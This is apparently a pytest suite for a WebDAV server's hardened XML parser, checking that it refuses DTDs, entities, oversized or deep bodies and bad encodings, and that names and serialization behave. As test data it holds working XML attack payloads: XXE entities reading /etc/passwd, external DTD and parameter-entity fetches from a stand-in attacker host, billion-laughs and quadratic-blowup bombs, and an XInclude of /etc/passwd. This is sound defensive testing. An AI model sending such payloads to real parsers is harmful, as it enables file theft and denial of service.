"""The hardened parser refuses hostile bodies; names and serialization behave."""

from __future__ import annotations

import pytest
from lxml import etree

from homeport.dav import xml as davxml
from homeport.dav.xml import (
    MAX_DEPTH,
    clark,
    element,
    parse_body,
    serialize,
    split_clark,
    sub_element,
    text_of,
)
from homeport.errors import InvalidRequest

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE propfind [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&xxe;</D:displayname></D:prop></D:propfind>"""

XXE_NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE propfind SYSTEM "http://attacker.invalid/evil.dtd">
<D:propfind xmlns:D="DAV:"><D:allprop/></D:propfind>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY % remote SYSTEM "http://attacker.invalid/x">%remote;]>
<D:propfind xmlns:D="DAV:"/>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""

QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "'
    + b"x" * 50_000
    + b'">]><a>'
    + b"&x;" * 1_000
    + b"</a>"
)


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(XXE_FILE, id="xxe-system-file"),
        pytest.param(XXE_NETWORK, id="xxe-external-dtd"),
        pytest.param(XXE_PARAMETER, id="xxe-parameter-entity"),
        pytest.param(BILLION_LAUGHS, id="billion-laughs"),
        pytest.param(QUADRATIC_BLOWUP, id="quadratic-blowup"),
        pytest.param(b"<!-- hi --><!DOCTYPE a><a/>", id="doctype-after-comment"),
        pytest.param(b"<a>&undefined;</a>", id="undefined-entity"),
        pytest.param(b"<a/><!DOCTYPE a>", id="doctype-after-root"),
    ],
)
def test_dtds_and_entities_are_refused(body: bytes) -> None:
    with pytest.raises(InvalidRequest):
        parse_body(body)


def test_xxe_never_reads_the_file() -> None:
    with pytest.raises(InvalidRequest) as info:
        parse_body(XXE_FILE)
    assert "root:" not in info.value.message


def test_doctype_is_refused_even_if_the_prescan_misses_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(davxml, "_has_doctype", lambda data: False)
    with pytest.raises(InvalidRequest, match="DOCTYPE"):
        parse_body(XXE_FILE)


def test_nesting_deeper_than_the_limit_is_refused() -> None:
    ok = b"<a>" * MAX_DEPTH + b"</a>" * MAX_DEPTH
    assert parse_body(ok) is not None
    deep = b"<a>" * (MAX_DEPTH + 1) + b"</a>" * (MAX_DEPTH + 1)
    with pytest.raises(InvalidRequest, match="deeper"):
        parse_body(deep)
    # The deep branch need not be the first: a wide body with one deep member.
    branch = b"<b>" * MAX_DEPTH + b"</b>" * MAX_DEPTH
    with pytest.raises(InvalidRequest, match="deeper"):
        parse_body(b"<a>" + b"<c/>" * 50 + b"<x>text</x>" + branch + b"<c/></a>")
    assert parse_body(b"<a>" + b"<c/>" * 50 + branch[3:-4] + b"</a>") is not None


def test_very_deep_nesting_is_refused() -> None:
    with pytest.raises(InvalidRequest):
        parse_body(b"<a>" * 100_000 + b"</a>" * 100_000, max_bytes=10_000_000)


def test_oversized_bodies_are_refused_before_parsing() -> None:
    huge_attribute = b'<a x="' + b"y" * 2_000_000 + b'"/>'
    with pytest.raises(InvalidRequest, match="larger"):
        parse_body(huge_attribute)
    with pytest.raises(InvalidRequest, match="larger"):
        parse_body(b"<a>" + b"x" * 200 + b"</a>", max_bytes=100)


@pytest.mark.parametrize(
    "body",
    [
        pytest.param("<a>été</a>".encode("latin-1"), id="latin-1"),
        pytest.param('<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16"), id="utf-16"),
        pytest.param(b"<a>\xff\xfe</a>", id="invalid-bytes"),
        pytest.param(b"<a>\xed\xa0\x80</a>", id="utf-8-surrogate"),
        pytest.param(b"<a>\xc0\xaf</a>", id="overlong"),
    ],
)
def test_non_utf8_is_refused(body: bytes) -> None:
    with pytest.raises(InvalidRequest, match="UTF-8"):
        parse_body(body)


@pytest.mark.parametrize(
    "body",
    [b"<a>", b"<a></b>", b"not xml", b"<a/><b/>", b"<a>\x00</a>", b"<a>\x01</a>", b"<1a/>"],
)
def test_malformed_xml_is_refused(body: bytes) -> None:
    with pytest.raises(InvalidRequest):
        parse_body(body)


@pytest.mark.parametrize("body", [b"", b"   \r\n\t ", b"\xef\xbb\xbf"])
def test_empty_body_is_none(body: bytes) -> None:
    assert parse_body(body) is None


def test_bom_declaration_comments_and_pis_are_fine() -> None:
    body = (
        b'\xef\xbb\xbf<?xml version="1.0" encoding="utf-8"?>\n<!-- client v1 -->'
        b"<?app hint?><D:propfind xmlns:D='DAV:'><!-- c --><D:allprop/></D:propfind>"
    )
    root = parse_body(body)
    assert root is not None
    assert root.tag == "{DAV:}propfind"
    assert [child.tag for child in root] == ["{DAV:}allprop"]


def test_declared_encoding_other_than_utf8_is_read_as_utf8() -> None:
    root = parse_body('<?xml version="1.0" encoding="ISO-8859-1"?><a>été</a>'.encode())
    assert root is not None
    assert root.text == "été"


def test_xinclude_is_not_processed() -> None:
    body = (
        b'<a xmlns:xi="http://www.w3.org/2001/XInclude">'
        b'<xi:include href="/etc/passwd" parse="text"/></a>'
    )
    root = parse_body(body)
    assert root is not None
    assert text_of(root) == ""


def test_cdata_becomes_text() -> None:
    root = parse_body(b"<a><![CDATA[<b>&amp;</b>]]></a>")
    assert root is not None
    assert root.text == "<b>&amp;</b>"


def test_clark_names() -> None:
    assert clark("DAV:", "href") == "{DAV:}href"
    assert clark("", "plain") == "plain"
    assert clark(None, "plain") == "plain"
    assert split_clark("{DAV:}href") == ("DAV:", "href")
    assert split_clark("{urn:x}y") == ("urn:x", "y")
    assert split_clark("plain") == ("", "plain")
    with pytest.raises(InvalidRequest):
        split_clark("{DAV:href")


def test_serialize_uses_declaration_prefixes_and_utf8() -> None:
    root = element("{DAV:}multistatus")
    sub_element(root, "{urn:ietf:params:xml:ns:caldav}calendar-data", "SUMMARY:Fête ☃")
    sub_element(root, "{http://example.com/ns}custom")
    body = serialize(root)
    assert body.startswith(b'<?xml version="1.0" encoding="utf-8"?>\n')
    assert b"<d:multistatus" in body
    assert b'xmlns:cal="urn:ietf:params:xml:ns:caldav"' in body
    assert "Fête ☃".encode() in body
    reparsed = etree.fromstring(body)
    assert reparsed[0].text == "SUMMARY:Fête ☃"
    assert reparsed[1].tag == "{http://example.com/ns}custom"


def test_an_entity_reference_left_in_a_tree_is_refused() -> None:
    # parse_body's last check: the parser settings keep entities out, so build one.
    from homeport.dav.xml import _refuse_entities

    root = etree.fromstring(b"<a><b/></a>")
    _refuse_entities(root)
    root[0].append(etree.Entity("nbsp"))
    with pytest.raises(InvalidRequest, match="entity"):
        _refuse_entities(root)
